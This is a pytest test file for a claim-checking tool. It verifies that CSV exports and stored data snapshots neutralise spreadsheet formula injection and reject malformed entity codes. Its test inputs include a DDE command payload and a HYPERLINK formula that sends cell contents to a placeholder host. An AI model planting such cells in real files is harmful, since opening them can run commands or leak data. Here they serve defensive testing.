"""CSV cells a person may open in a spreadsheet never run as formulas; entity codes are validated on refresh."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings, strategies as st

from claimcheck.batch import runner
from claimcheck.reference import snapshots
from claimcheck.reference.errors import SnapshotInvalid

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


def spreadsheet_would_run(cell: str) -> bool:
    """OWASP: a cell starting with one of these is a formula, unless it is a plain number."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def verdict_rows(text: str) -> list[dict]:
    return [{"claim_id": "c1", "verdict": "supported", "reason": text, "sentence": text, "reference": "-1.5",
             "reference_value": -1.5, "claimed": text, "difference_abs": -0.25}]


@pytest.mark.parametrize("text", FORMULAS)
def test_verdicts_csv_has_no_cell_a_spreadsheet_runs(tmp_path, text):
    runner.write_verdict_tables(tmp_path, verdict_rows(text))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "verdicts.csv").read_bytes().decode("utf-8"), newline="")))
    assert rows[0]["reason"] == "'" + text and rows[0]["sentence"] == "'" + text
    assert rows[0]["reference"] == "-1.5" and rows[0]["reference_value"] == "-1.5"  # numbers stay numbers
    assert rows[0]["difference_abs"] == "-0.25"
    assert not any(spreadsheet_would_run(cell) for row in rows for cell in row.values())


def frame(entity: str = "CHN", name: str = "China") -> pd.DataFrame:
    return pd.DataFrame({"entity": [entity, "BEL"], "entity_name": [name, "Belgium"], "measure": ["m", "m"],
                         "period": ["2020", "2020"], "value": [-1.5, 2.0], "unit": ["USD", "USD"],
                         "partner": ["", ""]})


@pytest.mark.parametrize("text", [*FORMULAS, "'quoted", "''", "-", "plain"])
def test_a_stored_snapshot_csv_is_inert_and_reads_back_as_it_was(data_copy, text):
    meta = {"method": "transcribed", "title": "t"}
    path = snapshots.write_snapshot("worldbank", "hostile_cells", frame(name=text), meta, version="2020-01-01")
    cells = [cell for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")) for cell in row]
    assert not any(spreadsheet_would_run(cell) for cell in cells), cells
    assert "-1.5" in cells  # a negative number is kept as a number
    loaded = snapshots.load_snapshot("worldbank", "hostile_cells", "2020-01-01").frame
    assert loaded.loc[loaded.entity == "CHN", "entity_name"].item() == text
    assert loaded.loc[loaded.entity == "CHN", "value"].item() == -1.5


@pytest.mark.parametrize("entity", ["=cmd|' /C calc'!A0", "+CHN", "-1+2", "@A1", "\tCHN", "CH\nN", " CHN",
                                    "_x", "C" * 201])
def test_an_entity_that_is_no_code_or_name_is_refused(data_copy, entity):
    with pytest.raises(SnapshotInvalid, match="no entity code or name"):
        snapshots.write_snapshot("worldbank", "hostile_cells", frame(entity), {"method": "api"}, version="2020-01-01")
    assert not (data_copy / "reference" / "worldbank" / "hostile_cells").exists()


@pytest.mark.parametrize("entity", ["CHN", "OWID_WRL", "156", "Q148", "EU27_2020", "Asia (excl. China & India)",
                                    "Côte d'Ivoire", "Åland Islands"])
def test_codes_and_names_of_the_real_sources_are_accepted(data_copy, entity):
    snapshots.write_snapshot("worldbank", "hostile_cells", frame(entity), {"method": "api"}, version="2020-01-01")


def test_claims_as_csv_has_no_cell_a_spreadsheet_runs():
    from claimcheck.show.tables import write_table

    out = io.StringIO()
    write_table(pd.DataFrame({"id": ["a"], "reason": ["=1+1"], "quote": ["-5"]}), "csv", out)
    assert out.getvalue().splitlines()[1] == "a,'=1+1,-5"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=12) | st.sampled_from(FORMULAS) | st.from_regex(r"[-+=@'\t\r][-+=@'0-9.e]{0,6}", fullmatch=True))
def test_any_text_is_written_inert_and_reads_back_unchanged(text):
    from claimcheck.cells import from_cell, to_cell

    cell = to_cell(text)
    assert from_cell(cell) == text
    assert not spreadsheet_would_run(cell)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.text(alphabet="'a=,\"\n-1 é", max_size=6), min_size=3, max_size=3), min_size=1, max_size=6))
def test_a_stored_table_s_cells_read_back_as_written_wherever_a_mark_stands(rows):
    from claimcheck.cells import csv_text
    from claimcheck.reference.snapshots import _read_csv

    data = csv_text(["entity", "name", "value"], rows).encode("utf-8")  # every text cell made inert
    frame = _read_csv(data)
    assert frame.values.tolist() == rows


@settings(max_examples=300, deadline=None)
@given(st.integers(1, 3).flatmap(lambda n: st.lists(st.lists(st.text(alphabet="'a=,\"\n\r-1 é", max_size=4), min_size=n,
                                                              max_size=n), min_size=0, max_size=6)))
def test_a_table_written_column_by_column_is_the_table_written_row_by_row(rows):
    from claimcheck.cells import cell_text, csv_columns, csv_text

    header = ["entity", "name", "value"][: len(rows[0]) if rows else 2]
    columns = [[cell_text(v) for v in column] for column in zip(*rows)] or [[] for _ in header]
    assert csv_columns(header, columns) == csv_text(header, rows)


def test_equal_cells_of_different_types_are_each_written_as_their_own_type():
    # 1 == 1.0 == True and 0.0 == -0.0: a column is never written once per distinct value unless all are text
    frame = pd.DataFrame({"entity": ["A", "B", "C", "D", "E"], "partner": "", "period": ["2001", "2002", "2003", "2004", "2005"],
                          "measure": "status", "value": pd.Series([1, 1.0, True, 0.0, -0.0], dtype=object), "unit": "category",
                          "basis": pd.Series([1, 1.0, True, 0.0, -0.0], dtype=object)})  # fmt: skip
    lines = snapshots.render_csv(frame).decode().splitlines()
    assert [line.split(",")[4] for line in lines[1:]] == ["1.0", "1.0", "1.0", "0.0", "-0.0"]  # a value: a float
    assert [line.split(",")[6] for line in lines[1:]] == ["1", "1.0", "True", "0.0", "-0.0"]
    flags = frame.assign(value=[True, False, True, False, True], aggregate=[True, False, True, False, True]).drop(columns="basis")
    lines = snapshots.render_csv(flags).decode().splitlines()
    assert [line.split(",")[4:] for line in lines[1:3]] == [["1.0", "category", "True"], ["0.0", "category", "False"]]
